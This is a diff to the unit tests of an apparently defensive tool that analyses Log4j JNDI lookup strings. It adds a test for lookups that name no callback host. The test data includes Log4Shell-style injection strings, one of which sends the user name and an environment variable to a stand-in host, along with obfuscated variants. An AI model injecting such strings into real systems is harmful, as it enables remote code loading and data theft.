@@ -311,6 +311,12 @@ class Ends(unittest.TestCase):
         self.assertEqual((one["verdict"], one["reason"], one["callback"]["scheme"]), ("reaches", None, "ldap"))
         self.assertEqual(one["key"].encode(), text[7:-1])
 
+    def test_where_nobody_is_called(self):
+        for text in ("${jndi:java:comp/env/jdbc}", "${jndi:}"):
+            out = shown(text)
+            self.assertIn("  calls back   no host is named", out)
+            self.assertTrue(out.endswith("  next         hikeshi hunt LOGS\n"), out)
+
     def test_json(self):
         one, two, three, four = judged([b"${jndi:rmi://${sys:user.name}.x.example:99/${env:A:-bc}}", b"${ jndi:x}", b"x",
                                         b"%24{jndi:x}"])
